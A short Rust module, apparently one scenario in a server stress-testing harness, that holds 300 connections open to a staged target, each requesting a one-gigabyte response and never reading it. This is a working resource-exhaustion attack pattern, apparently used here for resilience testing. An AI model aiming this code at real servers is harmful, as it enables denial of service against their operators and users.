//! Large responses are asked for and not read.

use super::attacker::{Field, Hold};
use super::stage::ATTACKED;

pub(crate) const CONNECTIONS: u32 = 300;

pub(crate) async fn run(field: &Field) {
    let opening = format!("GET /bytes/1000000000 HTTP/1.1\r\nHost: {ATTACKED}\r\n\r\n").into_bytes();
    field.hold(Hold { connections: CONNECTIONS, opening, drip: None, deaf: true }).await;
}
